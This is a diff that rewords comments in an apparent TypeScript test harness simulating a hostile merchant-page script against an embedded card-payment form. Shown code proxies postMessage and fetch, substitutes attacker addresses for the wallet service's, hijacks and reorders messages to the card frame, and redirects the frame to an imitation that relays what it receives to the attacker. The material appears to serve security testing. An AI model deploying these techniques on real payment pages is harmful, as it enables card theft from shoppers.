@@ -1,6 +1,6 @@
 /*
- * What a hostile script of the brand's own page does to get at a card. Each function runs in that page: it may use
- * nothing from outside of itself.
+ * What a hostile script of the brand's own page does to get a card. Each function runs in that page, so it can't use
+ * anything outside of itself.
  */
 
 export const natives = ["postMessage", "MessageChannel", "fetch", "JSON", "Promise", "crypto"] as const;
@@ -12,11 +12,11 @@ export interface Attack {
 }
 
 /**
- * Replaces natives of the page by ones that note what goes through them, and that put the attacker's addresses in the
- * place of the wallet service's wherever they find them.
+ * Replaces the page's built-ins by ones that record what passes through them, and that replace the wallet service's
+ * addresses by the attacker's wherever they find them.
  */
 export function replaceNatives({ natives: replaced, evil }: Attack): void {
-  if (self !== top) return; // a script of the page, and of none of its frames
+  if (self !== top) return; // only a script of the page, not of its frames
   const page = window as unknown as Record<string, unknown> & { seenByPage?: string[] };
   const seen = (page.seenByPage ??= []);
   const { stringify } = JSON;
@@ -31,7 +31,7 @@ export function replaceNatives({ natives: replaced, evil }: Attack): void {
     return value;
   };
 
-  /** In place: the wallet service of a configuration, and whom it is trusted for. */
+  /** In place: the wallet service of a configuration, and its trusted origins. */
   function rewrite<Value>(value: Value, depth = 0): Value {
     if (typeof value !== "object" || value === null || depth > 6) return value;
     const found = value as Record<string, unknown>;
@@ -44,7 +44,7 @@ export function replaceNatives({ natives: replaced, evil }: Attack): void {
     }
     return value;
   }
-  /** The same in an order for the card form, and everything else that it might believe. */
+  /** The same in a request to the card form, and in everything else that it might read. */
   function rewriteMessage(message: unknown): unknown {
     const { order } = Object(message) as { order?: Record<string, unknown> };
     if (!order) return message;
@@ -96,7 +96,7 @@ export function replaceNatives({ natives: replaced, evil }: Attack): void {
       };
     },
     fetch() {
-      // The page's own calls go where they should: nobody notices.
+      // The page's own calls go where they should, so that the change is not noticed.
       window.fetch = new Proxy(fetch, {
         async apply(target, self, [input, options]: [RequestInfo | URL, RequestInit?]) {
           const url = String(input instanceof Request ? input.url : input);
@@ -140,7 +140,7 @@ export function replaceNatives({ natives: replaced, evil }: Attack): void {
   for (const name of replaced) replacements[name]();
 }
 
-/** Has the page send each message to the card form three times, and the order once more whenever it has been answered. */
+/** Makes the page send each message to the card form three times, and the order once more after each answer. */
 export function repeatMessages(): void {
   const { postMessage } = MessagePort.prototype;
   MessagePort.prototype.postMessage = function (message: unknown, ...more: unknown[]) {
@@ -154,8 +154,8 @@ export function repeatMessages(): void {
 }
 
 /**
- * Takes the page's end of the channel to the card form. `askCardForm` asks it to focus each of its fields, or one that the
- * caller names, and to check them, and resolves to all that has been heard.
+ * Takes the page's end of the channel to the card form. `askCardForm` makes it focus each of its fields, or the named one,
+ * and validate them, and resolves to all received messages.
  */
 export function listen(): void {
   const { postMessage } = MessagePort.prototype;
@@ -186,7 +186,7 @@ export function listen(): void {
   });
 }
 
-/** Has the page send an order, and a token that was not asked for, before the form is drawn. */
+/** Makes the page send an order, and an unrequested token, before the form is drawn. */
 export function reorderMessages(): void {
   const { postMessage } = MessagePort.prototype;
   let isFirst = true;
@@ -214,13 +214,13 @@ const frameOf = `(function find(root) {
   }
 })(document)`;
 
-/** Leads the card form's frame to an imitation. */
+/** Navigates the card form's frame to an imitation. */
 export const leadAway = (how: "src" | "location", to: string): string =>
   how === "src"
     ? `${frameOf}.src = ${JSON.stringify(to)}`
     : `${frameOf}.contentWindow.location = ${JSON.stringify(to)}`;
 
-/** Speaks as the card form's document does, and tells the attacker what it hears. */
+/** Imitates the card form's document, and sends the attacker what it receives. */
 export const imitation = `<!doctype html><title>Imitation</title><script>
   addEventListener("message", ({ ports: [port] }) => {
     if (!port) return;
